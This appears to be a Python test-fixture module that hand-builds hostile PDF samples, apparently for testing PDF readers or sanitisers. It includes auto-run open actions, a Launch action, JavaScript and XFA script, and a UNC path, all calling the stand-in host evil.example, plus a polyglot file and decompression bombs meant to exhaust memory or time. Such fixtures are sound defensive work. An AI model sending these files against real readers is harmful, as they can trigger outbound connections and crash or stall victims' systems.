"""PDFs that do more than show a page, written out by hand: each would be refused by one reader or obeyed by another."""

from __future__ import annotations

import functools
import zlib
from collections.abc import Iterable
from typing import Final

_ACTION: Final = b"/OpenAction<</S/%s/F(\\\\\\\\evil.example\\\\x)/URI(http://evil.example/)/D[0/Fit]>>"
_NOTE: Final = b"/Annots[<</Type/Annot/Subtype/%s/Rect[0 0 99 99]/FS<</F(evil.example)>>>>]"
_WORDS: Final = b"BT /F1 24 Tf 40 700 Td (BUSINESS LICENCE) Tj ET"
_FONT: Final = b"/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
_EXTERNAL: Final = b"<</Length 0/F<</Type/Filespec/F(http://evil.example/x)/FS/URL>>>>stream\n\nendstream"

ACTIONS: Final = ("URI", "GoToR", "GoToE", "Launch", "SubmitForm", "ImportData", "JavaScript", "Rendition", "Thread")
BOMBS: Final = ("operators", "twice packed", "picture", "nested")
NOTES: Final = ("FileAttachment", "RichMedia", "3D", "Movie", "Screen", "Sound")


def acting() -> dict[str, bytes]:
    """Give the attacks by name; each names evil.example somewhere."""
    xfa = b"/AcroForm<</Fields[]/XFA[(template)5 0 R]>>/NeedsRendering true"
    script = _stream(b"<template><script>evil.example</script></template>")
    attached = b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(evil.example)/EF<</F 5 0 R>>>>]>>>>"
    later = b"\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(http://evil.example/)>>>>\nendobj\n%%EOF\n"
    return {
        **{name: pdf(catalog=_ACTION % name.encode()) for name in ACTIONS},
        **{name: pdf(page=_NOTE % name.encode()) for name in NOTES},
        "page action": pdf(page=b"/AA<</O<</S/URI/URI(http://evil.example/)>>>>"),
        "form": pdf(catalog=b"/AcroForm<</Fields[5 0 R]>>", more=[b"<</FT/Tx/T(a)/V(evil.example)>>"]),
        "XFA": pdf(catalog=xfa, more=[script]),
        "attachment": pdf(catalog=attached, more=[_stream(b"MZ evil.example")]),
        "external stream": pdf(page=b"/Metadata 5 0 R", more=[_EXTERNAL]),
        "metadata": pdf(page=b"/Metadata 5 0 R", more=[_stream(b"<x>evil.example</x>")]),
        "polyglot": pdf() + b"PK\x03\x04<script src=//evil.example></script>",
        "two versions": pdf() + later,
        "unused object": pdf(more=[_stream(b"evil.example")]),
    }


@functools.cache
def bombs() -> dict[str, bytes]:
    """Give files of a few kilobytes that would take gigabytes or minutes."""
    twice = zlib.compress(zlib.compress(bytes(100_000_000), 9), 9)
    picture = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB"
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]"
    nested = [_stream(b"/X Do " * 20, form + b"/Resources<</XObject<</X %d 0 R>>>>" % (6 + each)) for each in range(12)]
    operators = zlib.compress(b"0 0 595 842 re f " * 8_000_000, 9)
    return {
        "operators": pdf(content=operators, filters=b"/Filter/FlateDecode"),
        "twice packed": pdf(content=twice, filters=b"/Filter[/FlateDecode/FlateDecode]"),
        "picture": pdf(
            page=b"/Resources<</XObject<</I 5 0 R>>>>",
            content=b"q 595 0 0 842 0 0 cm /I Do Q",
            more=[_stream(zlib.compress(bytes(1_000_000), 9), picture + b"/Filter/FlateDecode")],
        ),
        "nested": pdf(
            page=b"/Resources<</XObject<</X 5 0 R>>>>",
            content=b"/X Do",
            more=[*nested, _stream(b"0 0 9 9 re f", form)],
        ),
    }


def pdf(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    content: bytes = _WORDS,
    filters: bytes = b"",
    more: Iterable[bytes] = (),
) -> bytes:
    """A page with words of a built-in font; `more` begins at object 5."""
    font = b"" if b"/Resources" in page else _FONT
    return _file(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R%s%s>>" % (font, page),
            _stream(content, filters),
            *more,
        ]
    )


def _stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), entries, content)


def _file(objects: Iterable[bytes]) -> bytes:
    written, places = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, start=1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(places) + 1
    end = b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
    return written + end % (size, table, size, len(written))
